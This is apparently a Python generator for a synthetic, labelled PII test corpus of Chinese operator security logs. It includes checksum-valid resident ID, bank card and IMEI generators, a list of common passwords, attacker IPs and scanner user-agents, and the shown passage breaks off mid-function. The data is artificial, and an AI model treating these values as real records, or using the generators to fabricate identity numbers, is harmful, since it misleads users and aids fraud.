#!/usr/bin/python3
"""Labelled test corpus: security and IT logs of a Chinese operator / enterprise.

Writes a set of log and document files as a security team collects them
(Zeek conn/http logs, Suricata eve.json, Squid access.log, Postfix maillog,
an LDIF directory export, Windows Security event XML, sshd auth.log,
firewall/VPN syslog, a ModSecurity WAF audit log, BIND query log, DLP alerts
in CEF, a SIEM CSV export, an incident report in Chinese and an HR/IT asset
register) plus labels.jsonl.

labels.jsonl holds one JSON object per PI span:
    {"file": <base name>, "start": <byte offset>, "end": <byte offset, exclusive>,
     "type": <type name>}
Offsets are UTF-8 byte offsets into the file as written; they are recorded
while the file is composed, and every labelled slice is re-checked at the end.

Label conventions
  * PHONE_NUMBER is labelled as written, with +86 / 0086 / 86 prefix,
    separators or full-width digits; in URL-encoded text the value is labelled
    as it appears (e.g. %2B8613912345678).
  * IP_ADDRESS: every IPv4 / IPv6 address, including addresses inside URLs,
    Host headers and X-Forwarded-For lists; for a CIDR only the address part.
    Version strings, OIDs and prefix lengths are not labelled.
  * MAC_ADDRESS: every MAC in any notation (colon, dash, Huawei xxxx-xxxx-xxxx,
    Cisco xxxx.xxxx.xxxx).
  * PERSON_NAME: full names of private people in Chinese or pinyin; not
    account names, not masked names, not company names, not a surname or
    given name alone (LDIF sn / givenName).
  * EMAIL_ADDRESS: every e-mail address, including a userPrincipalName;
    never a Message-ID.
  * CREDENTIAL: the value only of passwords, password hashes in a password
    field, API keys, bearer tokens, webhook keys and session cookies.
  * LOCATION_COORDINATES: a latitude/longitude pair as one span.
  * CELL_ID: an MCC-MNC-LAC/TAC-CI cell global identity as one span.
  * Not labelled: user/account names, host and domain names, URLs, ports,
    Zeek uids, flow and event ids, signature ids, SIDs, GUIDs, file hashes,
    timestamps, byte counts, masked values and service numbers.

Synthetic data only. Deterministic: fixed seed.
Usage: make_corpus.py [--out DIR]   (default: the directory of this script)
"""
import sys
sys.dont_write_bytecode = True

import argparse
import base64
import datetime as dt
import hashlib
import json
import os
import random

import phonenumbers
from stdnum import luhn
from stdnum.cn import ric

SEED = 20240513
R = random.Random(SEED)
TZ = dt.timezone(dt.timedelta(hours=8))
BASE = dt.datetime(2024, 5, 13, 8, 30, 0, tzinfo=TZ)
CORP = "huachentel.com.cn"
ADDOM = "corp.huachentel.com.cn"

# ----------------------------------------------------------------------------
# composition with byte-offset labels
# ----------------------------------------------------------------------------


class L:
    """A labelled value (typ None = written but not labelled)."""
    __slots__ = ("text", "typ")

    def __init__(self, text, typ):
        self.text = text
        self.typ = typ


class S(list):
    """A composite string value (list of str / L) for JSON, CSV or XML."""


class Doc:
    def __init__(self, name):
        self.name = name
        self.buf = bytearray()
        self.labels = []

    def w(self, *parts):
        for p in parts:
            if p is None:
                continue
            if isinstance(p, str):
                self.buf += p.encode("utf-8")
            elif isinstance(p, L):
                start = len(self.buf)
                self.buf += p.text.encode("utf-8")
                if p.typ:
                    self.labels.append((start, len(self.buf), p.typ, p.text))
            elif isinstance(p, (list, tuple)):
                self.w(*p)
            else:
                raise TypeError(repr(p))

    def ln(self, *parts):
        self.w(*parts)
        self.w("\n")


def IP(x): return L(x, "IP_ADDRESS")
def MAC(x): return L(x, "MAC_ADDRESS")
def PH(x): return L(x, "PHONE_NUMBER")
def EM(x): return L(x, "EMAIL_ADDRESS")
def NM(x): return L(x, "PERSON_NAME")
def RID(x): return L(x, "CHINA_RESIDENT_ID_NUMBER")
def PP(x): return L(x, "CHINA_PASSPORT")
def HKM(x): return L(x, "HK_MACAU_TRAVEL_PERMIT")
def DOB(x): return L(x, "DATE_OF_BIRTH")
def ADDR(x): return L(x, "STREET_ADDRESS")
def CARD(x): return L(x, "BANK_CARD_NUMBER")
def CR(x): return L(x, "CREDENTIAL")
def IMSI(x): return L(x, "IMSI_ID")
def IMEI(x): return L(x, "IMEI_HARDWARE_ID")
def MEID(x): return L(x, "MEID")
def ICCID(x): return L(x, "ICCID_NUMBER")
def GEO(x): return L(x, "LOCATION_COORDINATES")
def CELL(x): return L(x, "CELL_ID")
def PLATE(x): return L(x, "CHINA_LICENSE_PLATE")


def _jesc(s):
    return json.dumps(s, ensure_ascii=False)[1:-1]


def J(o):
    """JSON (compact, UTF-8) as a list of parts, keeping labels."""
    if isinstance(o, dict):
        out = ["{"]
        for i, (k, v) in enumerate(o.items()):
            if i:
                out.append(",")
            out.append(json.dumps(k, ensure_ascii=False) + ":")
            out.append(J(v))
        out.append("}")
        return out
    if isinstance(o, L):
        assert _jesc(o.text) == o.text, o.text
        return ['"', o, '"']
    if isinstance(o, S):
        out = ['"']
        for p in o:
            if isinstance(p, L):
                assert _jesc(p.text) == p.text, p.text
                out.append(p)
            else:
                out.append(_jesc(p))
        out.append('"')
        return out
    if isinstance(o, list):
        out = ["["]
        for i, v in enumerate(o):
            if i:
                out.append(",")
            out.append(J(v))
        out.append("]")
        return out
    return [json.dumps(o, ensure_ascii=False)]


def _text(parts):
    return "".join(p if isinstance(p, str) else p.text for p in parts)


def CSVROW(cells):
    out = []
    for i, c in enumerate(cells):
        if i:
            out.append(",")
        parts = list(c) if isinstance(c, S) else [c]
        txt = _text(parts)
        if any(ch in txt for ch in ',"\r\n'):
            out.append('"')
            for p in parts:
                if isinstance(p, L):
                    assert '"' not in p.text
                    out.append(p)
                else:
                    out.append(p.replace('"', '""'))
            out.append('"')
        else:
            out.extend(parts)
    return out


def _xesc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def X(c):
    parts = list(c) if isinstance(c, S) else [c]
    out = []
    for p in parts:
        if isinstance(p, L):
            assert _xesc(p.text) == p.text
            out.append(p)
        else:
            out.append(_xesc(p))
    return out

# ----------------------------------------------------------------------------
# identifier generators (checked with python-stdnum / phonenumbers)
# ----------------------------------------------------------------------------


def digits(n):
    return "".join(R.choice("0123456789") for _ in range(n))


def hexs(n, upper=False):
    s = "".join(R.choice("0123456789abcdef") for _ in range(n))
    return s.upper() if upper else s


def alnum(n, alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"):
    return "".join(R.choice(alphabet) for _ in range(n))


RIC_W = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]


def ric_check(body17):
    s = sum(int(c) * w for c, w in zip(body17, RIC_W)) % 11
    return "10X98765432"[s]


def make_ric(region, dob, lower_x=False):
    body = region + dob.strftime("%Y%m%d") + digits(3)
    n = body + ric_check(body)
    assert ric.calc_check_digit(n) == n[-1]
    if region[:2] not in ("81", "82", "83") and region != "441900":
        assert ric.is_valid(n), n
    if lower_x:
        n = n[:-1] + n[-1].lower()
    return n


def make_ric15(region, dob):
    return region + dob.strftime("%y%m%d") + digits(3)


MOBILE_PREFIXES = ["130", "131", "132", "133", "134", "135", "136", "137", "138", "139",
                   "145", "147", "150", "151", "152", "153", "155", "156", "157", "158",
                   "159", "166", "172", "173", "175", "176", "177", "178", "180", "181",
                   "182", "183", "184", "185", "186", "187", "188", "189", "191", "193",
                   "195", "198", "199"]


def make_mobile():
    while True:
        n = R.choice(MOBILE_PREFIXES) + digits(8)
        p = phonenumbers.parse(n, "CN")
        if phonenumbers.is_valid_number(p) and \
                phonenumbers.number_type(p) == phonenumbers.PhoneNumberType.MOBILE:
            return n


def fmt_mobile(n, style=None):
    style = style if style is not None else R.choice(
        ["plain"] * 6 + ["+86sp", "+86dash", "+86", "0086", "86", "dash", "sp"])
    a, b, c = n[:3], n[3:7], n[7:]
    return {
        "plain": n,
        "+86sp": f"+86 {a} {b} {c}",
        "+86dash": f"+86-{a}-{b}-{c}",
        "+86": f"+86{n}",
        "0086": f"0086{n}",
        "86": f"86{n}",
        "86-": f"86-{n}",
        "dash": f"{a}-{b}-{c}",
        "sp": f"{a} {b} {c}",
        "fw": n.translate(str.maketrans("0123456789", "０１２３４５６７８９")),
    }[style]


def make_landline(area):
    while True:
        n = R.choice("2345678") + digits(7)
        p = phonenumbers.parse(area + n, "CN")
        if phonenumbers.is_valid_number(p) and phonenumbers.number_type(p) in (
                phonenumbers.PhoneNumberType.FIXED_LINE, phonenumbers.PhoneNumberType.FIXED_LINE_OR_MOBILE):
            return area, n


def fmt_landline(area, n, style=None):
    style = style or R.choice(["dash", "dash", "paren", "intl", "plain"])
    if style == "dash":
        return f"{area}-{n}"
    if style == "paren":
        return f"({area}){n}"
    if style == "intl":
        return f"+86 {area[1:]} {n[:4]} {n[4:]}"
    return area + n


IMEI_TACS = ["86753004", "86891303", "86446104", "35391110", "86016005", "86927706",
             "35847611", "86305205", "86781004", "35328208", "86215606", "86473105"]


def make_imei():
    body = R.choice(IMEI_TACS) + digits(6)
    n = body + luhn.calc_check_digit(body)
    assert luhn.is_valid(n)
    return n


def make_imsi(mnc=None):
    mnc = mnc or R.choice(["00", "00", "02", "07", "01", "06", "03", "11", "05", "03", "15"])
    return "460" + mnc + digits(10)


def make_iccid(op=None):
    op = op or R.choice(["00", "01", "03", "11"])
    body = "8986" + op + digits(13)
    return body + luhn.calc_check_digit(body)


def make_meid():
    return "A" + R.choice("01") + hexs(12, upper=True)


BINS = ["622202", "622848", "621700", "621483", "622588", "622262", "621661",
        "622700", "621226", "623668", "622908", "621799"]


def make_card(length=None):
    length = length or R.choice([16, 19, 19])
    body = R.choice(BINS) + digits(length - 7)
    n = body + luhn.calc_check_digit(body)
    assert luhn.is_valid(n) and len(n) == length
    return n


def fmt_card(n):
    if R.random() < 0.2:
        return " ".join(n[i:i + 4] for i in range(0, len(n), 4))
    return n


def make_passport():
    k = R.random()
    if k < 0.55:
        return "E" + digits(8)
    if k < 0.85:
        return "E" + R.choice("ABCDEFGHJKLMNPQRSTUVWXYZ") + digits(7)
    return "G" + digits(8)


def make_permit():
    return "C" + R.choice("123456789") + digits(7)


PLATE_PROV = "京沪粤浙苏川鄂陕津渝闽湘鲁豫皖"
PLATE_LET = "ABCDEFGHJKLMNPQRSTUVWXYZ"


def make_plate(style=None):
    prov = R.choice(PLATE_PROV)
    city = R.choice("ABCDEFGH")
    if R.random() < 0.25:
        tail = R.choice("DF") + digits(5)          # new-energy small car
    else:
        t = [R.choice("0123456789") for _ in range(5)]
        for i in R.sample(range(5), R.choice([0, 1, 2])):
            t[i] = R.choice(PLATE_LET)
        tail = "".join(t)
    style = style or R.choice(["plain", "plain", "dot", "sp"])
    sep = {"plain": "", "dot": "·", "sp": " "}[style]
    return f"{prov}{city}{sep}{tail}"


def make_mac(oui=None, style="colon", upper=False):
    b = (oui or [R.randrange(256) & 0xFC for _ in range(1)] + [R.randrange(256) for _ in range(2)]) \
        + [R.randrange(256) for _ in range(3)]
    h = "".join(f"{x:02x}" for x in b)
    return h.upper() if upper else h


OUIS = [[0x3C, 0x52, 0x82], [0x98, 0xFA, 0x9B], [0x54, 0xE1, 0xAD], [0xF4, 0x8E, 0x38],
        [0x28, 0x6E, 0xD4], [0xA4, 0xBE, 0x2B], [0x00, 0xE0, 0xFC], [0x8C, 0xEC, 0x4B],
        [0xD4, 0x6A, 0x6A], [0x70, 0x8B, 0xCD], [0xB0, 0x7B, 0x25], [0x48, 0x4D, 0x7E]]


def new_mac():
    return make_mac(R.choice(OUIS))


def mac_fmt(h, style):
    if style == "colon":
        return ":".join(h[i:i + 2] for i in range(0, 12, 2))
    if style == "COLON":
        return ":".join(h[i:i + 2] for i in range(0, 12, 2)).upper()
    if style == "DASH":
        return "-".join(h[i:i + 2] for i in range(0, 12, 2)).upper()
    if style == "huawei":
        return "-".join(h[i:i + 4] for i in range(0, 12, 4))
    if style == "cisco":
        return ".".join(h[i:i + 4] for i in range(0, 12, 4))
    if style == "bare":
        return h.upper()
    raise ValueError(style)


def ipv6_rand(prefix):
    groups = prefix.split(":")
    while len(groups) < 4:
        groups.append(f"{R.randrange(1, 0xffff):x}")
    tail = [f"{R.randrange(0, 0xffff):x}" for _ in range(4)]
    return ":".join(groups + tail)


def tok_b64url(nbytes):
    return base64.urlsafe_b64encode(bytes(R.randrange(256) for _ in range(nbytes))).decode().rstrip("=")


def make_jwt(sub):
    h = base64.urlsafe_b64encode(b'{"alg":"HS256","typ":"JWT"}').decode().rstrip("=")
    body = json.dumps({"sub": sub, "iat": 1715560000 + R.randrange(9999), "exp": 1715600000,
                       "scope": "crm.read"}, separators=(",", ":")).encode()
    p = base64.urlsafe_b64encode(body).decode().rstrip("=")
    return f"{h}.{p}.{tok_b64url(32)}"


PASSWORDS = ["Huachen@2024", "Wf#19880312", "Zx9!pLq27v", "P@ssw0rd123", "admin123",
             "Qq@12345678", "Sz_Net#0719", "Hc@Vpn2024!", "Summer2024$", "abc123456",
             "Tg8$kLm2Wq", "Li@1990mm", "Dba#Ora2023", "Xx_19920607", "Bj2024!Rt",
             "woaini1314", "Q1w2e3r4!", "hcTel#8899", "Nb@Sec_2024", "Pwd!38Ksz"]


def make_password():
    return R.choice(PASSWORDS) if R.random() < 0.6 else (
        alnum(1, "ABCDEFGHJKLMNPQRSTUVWXYZ") + alnum(5, "abcdefghjkmnpqrstuvwxyz")
        + R.choice("@#!$_") + digits(4))


def ssha(pw):
    salt = bytes(R.randrange(256) for _ in range(8))
    dg = hashlib.sha1(pw.encode() + salt).digest()
    return "{SSHA}" + base64.b64encode(dg + salt).decode()


def uuid4():
    h = hexs(32)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{R.choice('89ab')}{h[17:20]}-{h[20:]}"


def zeek_uid(prefix="C"):
    return prefix + alnum(17)

# ----------------------------------------------------------------------------
# people, places
# ----------------------------------------------------------------------------


SURNAMES = [("王", "wang"), ("李", "li"), ("张", "zhang"), ("刘", "liu"), ("陈", "chen"),
            ("杨", "yang"), ("黄", "huang"), ("赵", "zhao"), ("吴", "wu"), ("周", "zhou"),
            ("徐", "xu"), ("孙", "sun"), ("马", "ma"), ("朱", "zhu"), ("胡", "hu"),
            ("郭", "guo"), ("何", "he"), ("高", "gao"), ("林", "lin"), ("罗", "luo"),
            ("郑", "zheng"), ("梁", "liang"), ("谢", "xie"), ("宋", "song"), ("唐", "tang"),
            ("韩", "han"), ("冯", "feng"), ("邓", "deng"), ("曹", "cao"), ("彭", "peng"),
            ("曾", "zeng"), ("肖", "xiao"), ("田", "tian"), ("董", "dong"), ("袁", "yuan"),
            ("潘", "pan"), ("蒋", "jiang"), ("蔡", "cai"), ("杜", "du"), ("叶", "ye"),
            ("程", "cheng"), ("苏", "su"), ("魏", "wei"), ("吕", "lv"), ("丁", "ding"),
            ("任", "ren"), ("沈", "shen"), ("姚", "yao"), ("卢", "lu"), ("崔", "cui"),
            ("钟", "zhong"), ("谭", "tan"), ("陆", "lu"), ("范", "fan"), ("金", "jin"),
            ("廖", "liao"), ("贾", "jia"), ("夏", "xia"), ("方", "fang"), ("邹", "zou"),
            ("熊", "xiong"), ("秦", "qin"), ("邱", "qiu"), ("薛", "xue"), ("雷", "lei"),
            ("侯", "hou"), ("龙", "long"), ("顾", "gu"), ("孟", "meng"), ("欧阳", "ouyang"),
            ("司马", "sima"), ("上官", "shangguan")]
GIVEN = [("伟", ["wei"]), ("芳", ["fang"]), ("娜", ["na"]), ("敏", ["min"]), ("静", ["jing"]),
         ("强", ["qiang"]), ("磊", ["lei"]), ("军", ["jun"]), ("洋", ["yang"]), ("勇", ["yong"]),
         ("艳", ["yan"]), ("杰", ["jie"]), ("涛", ["tao"]), ("超", ["chao"]), ("霞", ["xia"]),
         ("秀英", ["xiu", "ying"]), ("桂英", ["gui", "ying"]), ("建国", ["jian", "guo"]),
         ("晓东", ["xiao", "dong"]), ("思远", ["si", "yuan"]), ("子涵", ["zi", "han"]),
         ("浩然", ["hao", "ran"]), ("雨萱", ["yu", "xuan"]), ("梓轩", ["zi", "xuan"]),
         ("一鸣", ["yi", "ming"]), ("欣怡", ["xin", "yi"]), ("俊杰", ["jun", "jie"]),
         ("文博", ["wen", "bo"]), ("海燕", ["hai", "yan"]), ("志强", ["zhi", "qiang"]),
         ("春梅", ["chun", "mei"]), ("玉兰", ["yu", "lan"]), ("国庆", ["guo", "qing"]),
         ("鹏", ["peng"]), ("辉", ["hui"]), ("斌", ["bin"]), ("婷", ["ting"]), ("琳", ["lin"]),
         ("颖", ["ying"]), ("倩", ["qian"]), ("凯", ["kai"]), ("昊", ["hao"]), ("瑶", ["yao"]),
         ("嘉怡", ["jia", "yi"]), ("宏伟", ["hong", "wei"]), ("立新", ["li", "xin"]),
         ("雪梅", ["xue", "mei"]), ("鑫", ["xin"]), ("旭东", ["xu", "dong"]), ("峰", ["feng"]),
         ("明哲", ["ming", "zhe"]), ("佳琪", ["jia", "qi"]), ("天宇", ["tian", "yu"]),
         ("晨曦", ["chen", "xi"]), ("振华", ["zhen", "hua"]), ("丽娟", ["li", "juan"]),
         ("红梅", ["hong", "mei"]), ("永刚", ["yong", "gang"]), ("德明", ["de", "ming"]),
         ("少华", ["shao", "hua"]), ("若曦", ["ruo", "xi"]), ("家豪", ["jia", "hao"])]

CITIES = {
    "BJ": dict(pre=["北京市"], area="010", regions=["110105", "110108", "110101", "110102", "110103", "110104"],
               districts={"朝阳区": ["建国路", "朝阳北路", "望京街", "酒仙桥路", "东三环中路"],
                          "海淀区": ["中关村大街", "学院路", "西二旗大街", "上地十街", "北四环西路"],
                          "东城区": ["东直门南大街", "朝阳门北大街", "和平里东街"]},
               geo=(39.9042, 116.4074), net="10.20", office="北京总部"),
    "SH": dict(pre=["上海市"], area="021", regions=["310115", "310104", "310106", "310103", "310110"],
               districts={"浦东新区": ["张杨路", "世纪大道", "张江路", "锦绣路"],
                          "徐汇区": ["漕溪北路", "虹桥路", "宜山路"],
                          "静安区": ["南京西路", "江宁路", "共和新路"]},
               geo=(31.2304, 121.4737), net="10.30", office="上海分公司"),
    "SZ": dict(pre=["广东省深圳市", "深圳市"], area="0755", regions=["440305", "440304", "440303", "440306"],
               districts={"南山区": ["科技南十二路", "深南大道", "后海大道", "南海大道"],
                          "福田区": ["福华三路", "深南中路", "益田路"],
                          "宝安区": ["新安六路", "宝民一路"]},
               geo=(22.5431, 114.0579), net="10.40", office="深圳研发中心"),
    "GZ": dict(pre=["广东省广州市", "广州市"], area="020", regions=["440106", "440104", "440105", "441900"],
               districts={"天河区": ["天河路", "体育西路", "华夏路", "中山大道西"],
                          "越秀区": ["环市东路", "东风中路"]},
               geo=(23.1291, 113.2644), net="10.44", office="广州分公司"),
    "HZ": dict(pre=["浙江省杭州市", "杭州市"], area="0571", regions=["330106", "330108", "330105"],
               districts={"西湖区": ["文三路", "教工路", "古墩路"],
                          "滨江区": ["江南大道", "网商路", "长河路"]},
               geo=(30.2741, 120.1551), net="10.50", office="杭州分公司"),
    "CD": dict(pre=["四川省成都市", "成都市"], area="028", regions=["510107", "510104", "510108"],
               districts={"武侯区": ["天府大道北段", "人民南路四段", "科华北路"],
                          "锦江区": ["春熙路", "东大街"]},
               geo=(30.5728, 104.0668), net="10.60", office="成都分公司"),
    "WH": dict(pre=["湖北省武汉市", "武汉市"], area="027", regions=["420111", "420106", "420102"],
               districts={"洪山区": ["珞喻路", "关山大道", "雄楚大道"],
                          "武昌区": ["中北路", "武珞路"]},
               geo=(30.5928, 114.3055), net="10.70", office="武汉分公司"),
    "NJ": dict(pre=["江苏省南京市", "南京市"], area="025", regions=["320106", "320102", "320103"],
               districts={"鼓楼区": ["中山北路", "汉中路"], "玄武区": ["珠江路", "龙蟠路"]},
               geo=(32.0603, 118.7969), net="10.80", office="南京分公司"),
}
ESTATES = ["阳光花园", "锦绣华城", "万科城", "保利香槟国际", "金地格林小镇", "翠湖苑", "和平里小区",
           "融侨观邸", "绿地海域", "中海华庭", "龙湖春江郦城", "世茂滨江花园", "碧桂园凤凰城", "华润城"]
DEPTS = ["信息技术部", "安全运营中心", "网络运维部", "客户服务中心", "市场营销部", "财务部",
         "人力资源部", "政企客户部", "数据平台部", "法务合规部"]


def make_address(city):
    c = CITIES[city]
    dist = R.choice(list(c["districts"]))
    road = R.choice(c["districts"][dist])
    no = R.randrange(1, 999)
    k = R.random()
    if k < 0.45:
        tail = f"{R.choice(ESTATES)}{R.randrange(1, 30)}栋{R.randrange(1, 6)}单元{R.randrange(1, 33)}{R.randrange(1, 5):02d}室"
    elif k < 0.8:
        tail = f"{R.randrange(1, 20)}号楼{R.randrange(1, 28)}{R.randrange(1, 9):02d}室"
    else:
        tail = f"{R.choice(ESTATES)}{R.randrange(1, 12)}期{R.randrange(1, 40)}幢{R.randrange(101, 2805)}室"
    return f"{R.choice(c['pre'])}{dist}{road}{no}号{tail}"


def make_geo(city, order="latlng", sep=","):
    la, lo = CITIES[city]["geo"]
    la += R.uniform(-0.12, 0.12)
    lo += R.uniform(-0.15, 0.15)
    a, b = (f"{la:.6f}", f"{lo:.6f}") if order == "latlng" else (f"{lo:.6f}", f"{la:.6f}")
    return f"{a}{sep}{b}"


def make_cell(mnc=None):
    mnc = mnc or R.choice(["00", "00", "01", "11"])
    return f"460-{mnc}-{R.randrange(4096, 65535)}-{R.randrange(10000000, 268435455)}"


class Person:
    pass


USED_ACCOUNTS = set()


def make_person(kind="emp"):
    p = Person()
    sur = R.choice(SURNAMES[:-3]) if R.random() > 0.04 else R.choice(SURNAMES[-3:])
    given = R.choice(GIVEN)
    p.name = sur[0] + given[0]
    p.py_sur = sur[1]
    p.py_given = "".join(given[1])
    p.py_given_syl = given[1]
    p.pinyin = f"{p.py_given.capitalize()} {p.py_sur.capitalize()}" if R.random() < 0.3 \
        else f"{p.py_sur.capitalize()} {p.py_given.capitalize()}"
    p.city = R.choice(list(CITIES))
    c = CITIES[p.city]
    y0, y1 = (1968, 1999) if kind == "emp" else (1955, 2005)
    p.dob = dt.date(R.randrange(y0, y1), R.randrange(1, 13), R.randrange(1, 29))
    p.ric = make_ric(R.choice(c["regions"]), p.dob, lower_x=False)
    if p.ric.endswith("X") and R.random() < 0.3:
        p.ric = p.ric[:-1] + "x"
    p.mobile = make_mobile()
    p.address = make_address(p.city)
    # account
    acct_styles = [p.py_sur + "".join(s[0] for s in given[1]), p.py_sur + p.py_given,
                   f"{p.py_given}.{p.py_sur}", p.py_sur + p.py_given[0]]
    acct = R.choice(acct_styles)
    base = acct
    i = 1
    while acct in USED_ACCOUNTS:
        i += 1
        acct = f"{base}{i:02d}" if "." not in base else f"{base}{i}"
    USED_ACCOUNTS.add(acct)
    p.account = acct
    p.email = f"{acct}@{CORP}"
    p.personal_email = R.choice([f"{digits(R.choice([8, 9, 10])).lstrip('0') or '1'}@qq.com",
                                 f"{p.py_sur}{p.py_given}{R.randrange(80, 99)}@163.com",
                                 f"{p.py_given}_{p.py_sur}@126.com",
                                 f"{p.py_sur}.{p.py_given}{R.randrange(1, 99)}@sina.com",
                                 f"{p.py_given}{p.py_sur}{R.randrange(10, 99)}@foxmail.com",
                                 f"{p.py_sur}{p.py_given[0]}{R.randrange(1970, 2000)}@gmail.com"])
    p.dept = R.choice(DEPTS)
    a, n = make_landline(c["area"])
    p.landline = (a, n)
    p.mac = new_mac()
    p.wmac = new_mac()
    p.ip = f"{c['net']}.{R.randrange(2, 60)}.{R.randrange(2, 254)}"
    p.ipv6 = ipv6_rand(R.choice(["2409:8a1e", "240e:3b4", "2408:8207"]))
    p.host = f"{p.city}-LT-{R.randrange(100, 9999):04d}"
    p.empno = f"HC{R.randrange(10000, 99999)}"
    p.plate = make_plate() if R.random() < 0.5 else None
    p.imei = make_imei()
    p.imsi = make_imsi()
    p.iccid = make_iccid()
    p.meid = make_meid() if p.imsi[3:5] in ("03", "11") else None
    p.password = make_password()
    p.passport = make_passport()
    p.permit = make_permit()
    p.card = make_card()
    return p


# External IPs (public, synthetic use)
EXT_WEB = ["39.156.66.10", "110.242.68.66", "220.181.38.148", "183.2.172.185", "120.232.145.144",
           "117.185.25.61", "203.119.169.20", "140.205.60.46", "47.96.148.12", "47.103.24.173",
           "119.29.29.29", "183.3.226.35", "111.206.208.134", "36.152.44.96", "124.237.176.164",
           "59.82.43.238", "106.11.248.146", "101.91.22.57", "58.215.145.102", "121.14.77.221"]
ATTACKERS = ["45.141.84.120", "218.92.0.112", "61.177.172.140", "193.32.162.79", "185.224.128.17",
             "103.145.13.222", "141.98.11.163", "80.94.95.115", "194.26.29.144", "222.186.30.112",
             "49.88.112.77", "43.156.68.21", "167.94.138.35", "179.43.180.108"]
MOBILE_PUB = ["223.104.3.77", "117.136.38.12", "112.97.52.143", "39.144.10.219", "223.104.65.5",
              "120.229.18.30", "111.30.182.97", "106.39.148.202", "183.192.202.33", "36.112.84.50"]
V6_EXT = ["240e:e9:6002:1fd:0:ff:b0d3:8a1c", "2408:871a:2100:3:0:ff:b025:348d",
          "2409:8c00:6c21:1051:0:ff:b0af:279a", "2400:da00::6666", "240c::6666",
          "2402:4e00:1430:1301:0:9227:79cd:4e1f"]
EGRESS = {"BJ": "36.110.58.2", "SH": "101.230.4.18", "SZ": "183.62.114.34", "GZ": "113.108.77.50",
          "HZ": "115.236.153.70", "CD": "125.70.9.14", "WH": "58.49.110.26", "NJ": "218.94.81.93"}
DNS_SRV = "10.10.0.53"
DNS_SRV2 = "10.10.0.54"


def ts_seq(start, n, lo=0.2, hi=90.0):
    t = start
    for _ in range(n):
        t = t + dt.timedelta(seconds=R.uniform(lo, hi))
        yield t


def epoch(t):
    return t.timestamp()


def syslog_ts(t):
    return t.strftime("%b ") + f"{t.day:>2}" + t.strftime(" %H:%M:%S")

# ----------------------------------------------------------------------------
# files
# ----------------------------------------------------------------------------


UA_WIN = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80",
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
          "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
          "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.5359.95 Safari/537.36 QIHU 360SE"]
UA_MOB = ["Mozilla/5.0 (Linux; Android 13; V2238A Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/116.0.0.0 Mobile Safari/537.36 MicroMessenger/8.0.47.2560(0x28002F3B) NetType/4G",
          "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
          "okhttp/4.9.3", "Dalvik/2.1.0 (Linux; U; Android 12; ALN-AL00 Build/HUAWEIALN-AL00)",
          "HCTelApp/6.2.1.1024 (Android 14; PJZ110)"]
UA_TOOLS = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "python-requests/2.31.0", "curl/7.81.0",
            "Go-http-client/1.1", "Mozilla/5.0 zgrab/0.x", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"]


def f_zeek_conn(emps):
    d = Doc("conn.log")
    fields = ["ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "proto", "service",
              "duration", "orig_bytes", "resp_bytes", "conn_state", "local_orig", "local_resp",
              "missed_bytes", "history", "orig_pkts", "orig_ip_bytes", "resp_pkts", "resp_ip_bytes",
              "tunnel_parents", "orig_l2_addr", "resp_l2_addr"]
    types = ["time", "string", "addr", "port", "addr", "port", "enum", "string", "interval", "count",
             "count", "string", "bool", "bool", "count", "string", "count", "count", "count", "count",
             "set[string]", "string", "string"]
    d.ln("#separator \\x09")
    d.ln("#set_separator\t,")
    d.ln("#empty_field\t(empty)")
    d.ln("#unset_field\t-")
    d.ln("#path\tconn")
    d.ln("#open\t2024-05-13-09-00-00")
    d.ln("#fields\t" + "\t".join(fields))
    d.ln("#types\t" + "\t".join(types))
    gw = {c: new_mac() for c in CITIES}
    start = BASE + dt.timedelta(minutes=30)
    for t in ts_seq(start, 38, 0.05, 60):
        e = R.choice(emps)
        k = R.random()
        l2 = R.random() < 0.45
        o_l2, r_l2 = (MAC(mac_fmt(e.mac, "colon")), MAC(mac_fmt(gw[e.city], "colon"))) if l2 else ("-", "-")
        if k < 0.32:
            o, op, rh, rp, proto, svc = IP(e.ip), R.randrange(49152, 65535), IP(R.choice(EXT_WEB)), 443, "tcp", "ssl"
            st, hist = "SF", "ShADadFf"
        elif k < 0.48:
            o, op, rh, rp, proto, svc = IP(e.ip), R.randrange(1024, 65535), IP(R.choice([DNS_SRV, DNS_SRV2])), 53, "udp", "dns"
            st, hist = "SF", "Dd"
        elif k < 0.60:
            o, op, rh, rp, proto, svc = IP(e.ip), R.randrange(49152, 65535), IP(f"10.10.5.{R.randrange(10, 40)}"), 445, "tcp", "smb,gssapi"
            st, hist = "SF", "ShADadfF"
        elif k < 0.70:
            o, op, rh, rp, proto, svc = IP(e.ipv6), R.randrange(49152, 65535), IP(R.choice(V6_EXT)), 443, "tcp", "ssl"
            st, hist = "SF", "ShADadFf"
            o_l2, r_l2 = (MAC(mac_fmt(e.mac, "colon")), MAC(mac_fmt(gw[e.city], "colon"))) if l2 else ("-", "-")
        elif k < 0.82:
            a = R.choice(ATTACKERS)
            o, op, rh, rp, proto, svc = IP(a), R.randrange(1024, 65535), IP(f"172.16.10.{R.randrange(10, 30)}"), R.choice([22, 3389, 445, 6379, 8080, 7001]), "tcp", "-"
            st, hist = R.choice([("S0", "S"), ("REJ", "Sr"), ("RSTO", "ShAR")])
            o_l2, r_l2 = "-", "-"
        elif k < 0.90:
